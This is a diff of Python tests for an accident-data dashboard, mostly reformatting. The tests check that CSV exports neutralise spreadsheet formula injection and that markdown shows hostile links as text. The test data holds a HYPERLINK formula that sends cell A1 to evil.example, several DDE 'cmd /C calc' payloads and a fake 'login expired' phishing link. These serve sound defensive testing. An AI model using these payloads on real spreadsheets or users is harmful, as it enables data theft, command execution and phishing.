@@ -17,7 +17,7 @@ from exports.downloads import HEADER_ROWS, Column, Export, safe_cell, safe_csv_f
 from i18n import md_text
 
 PAYLOADS = [
-    ('=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击查看\")"),
+    ('=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', '\'=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'),
     ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
     ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
     ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
@@ -38,15 +38,20 @@ def test_safe_cell(text: str, safe: str) -> None:
 
 def _export(values: list[str]) -> Export:
     frame = pd.DataFrame({"enterprise": values, "n": range(len(values))})
-    return Export("报表", "检索：=1+1", "测试", frame, [Column("enterprise", "单位", "Enterprise"),
-                                                      Column("n", "数量", "Count", "int")])
+    return Export(
+        "报表",
+        "检索：=1+1",
+        "测试",
+        frame,
+        [Column("enterprise", "单位", "Enterprise"), Column("n", "数量", "Count", "int")],
+    )
 
 
 def test_a_csv_download_writes_every_payload_as_text() -> None:
     texts = [t for t, _s in PAYLOADS]
     rows = list(csv.reader(io.StringIO(to_csv(_export(texts)).decode("utf-8-sig"), newline="")))
     assert rows[1] == ["筛选条件", "检索：=1+1"]  # begins with 检: nothing to neutralise
-    body = rows[HEADER_ROWS + 1:]
+    body = rows[HEADER_ROWS + 1 :]
     assert [r[0] for r in body] == [s for _t, s in PAYLOADS]
     assert [r[1] for r in body] == [str(i) for i in range(len(PAYLOADS))]
 
@@ -70,14 +75,29 @@ def test_a_frame_written_with_pandas_is_made_safe_too() -> None:
 
 # ---------------------------------------------------------------- text shown as text
 
-UNESCAPED_LINK = re.compile(r"(?<!\\)\]\s*\(|(?<!\\)!\[|(?<!\\)<[a-z/]|(?<![\\])\bhttps?(?<!\\):(?<!\\)//|(?<!\\):[a-z]+\[")
+UNESCAPED_LINK = re.compile(
+    r"(?<!\\)\]\s*\(|(?<!\\)!\[|(?<!\\)<[a-z/]|(?<![\\])\bhttps?(?<!\\):(?<!\\)//|(?<!\\):[a-z]+\["
+)
 
 
-@pytest.mark.parametrize("text", [
-    "![x](http://host/img.png)", "[登录已过期，请点击此处重新登录](http://evil.example/login)",
-    "<img src='http://host/x.png'>", ":red[危险]", ":material/warning:", "http://evil.example", "www.evil.example",
-    "长沙市**某**公司", "$x^2$", "a\n\n# heading", "`code`", "~~gone~~", "a | b",
-])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![x](http://host/img.png)",
+        "[登录已过期，请点击此处重新登录](http://evil.example/login)",
+        "<img src='http://host/x.png'>",
+        ":red[危险]",
+        ":material/warning:",
+        "http://evil.example",
+        "www.evil.example",
+        "长沙市**某**公司",
+        "$x^2$",
+        "a\n\n# heading",
+        "`code`",
+        "~~gone~~",
+        "a | b",
+    ],
+)
 def test_md_text_leaves_no_markup(text: str) -> None:
     shown = md_text(text)
     assert "\n" not in shown
@@ -86,11 +106,14 @@ def test_md_text_leaves_no_markup(text: str) -> None:
     assert as_shown(shown) == " ".join(text.splitlines())
 
 
-@pytest.mark.parametrize("params", [
-    {"lang": "[登录已过期，请点击此处重新登录](http://evil.example/login)"},
-    {"region": "![x](http://host/img.png)"},
-    {"period": "[2024](http://evil.example)", "industry": ":red[x],![y](http://h/i.png)"},
-])
+@pytest.mark.parametrize(
+    "params",
+    [
+        {"lang": "[登录已过期，请点击此处重新登录](http://evil.example/login)"},
+        {"region": "![x](http://host/img.png)"},
+        {"period": "[2024](http://evil.example)", "industry": ":red[x],![y](http://h/i.png)"},
+    ],
+)
 def test_a_hostile_link_shows_its_values_as_text(app_env: Path, params: dict[str, str]) -> None:
     at = AppTest.from_file(str(ROOT / "dashboard.py"), default_timeout=120)
     for k, v in params.items():
@@ -112,10 +135,12 @@ def test_the_rejects_download_writes_a_formula_as_text(tmp_path: Path) -> None:
     from store import open_store
 
     ledger = tmp_path / "ledger.csv"
-    ledger.write_text("事故编号,发生时间,所在地区,行业,单位,死亡人数\n"
-                      "A1,2024-03-05 10:00,长沙市,建筑施工,某公司,1\n"
-                      '=HYPERLINK("http://evil.example"),2024-03-06 10:00,长沙市,建筑施工,@SUM(1+1),-1\n',
-                      encoding="utf-8")
+    ledger.write_text(
+        "事故编号,发生时间,所在地区,行业,单位,死亡人数\n"
+        "A1,2024-03-05 10:00,长沙市,建筑施工,某公司,1\n"
+        '=HYPERLINK("http://evil.example"),2024-03-06 10:00,长沙市,建筑施工,@SUM(1+1),-1\n',
+        encoding="utf-8",
+    )
     store = open_store(tmp_path / "s.duckdb")
     result = import_file(store, ledger, "accidents")
     assert result.rejected == 1
@@ -123,7 +148,7 @@ def test_the_rejects_download_writes_a_formula_as_text(tmp_path: Path) -> None:
     assert write_rejects(store, out, result.import_id) == 1
     rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline="")))
     cells = dict(zip(rows[0], rows[1], strict=True))
-    assert cells["事故编号"] == "'=HYPERLINK(\"http://evil.example\")"
+    assert cells["事故编号"] == '\'=HYPERLINK("http://evil.example")'
     assert cells["单位"] == "'@SUM(1+1)"
     assert cells["死亡人数"] == "-1"  # a number stays a number
 
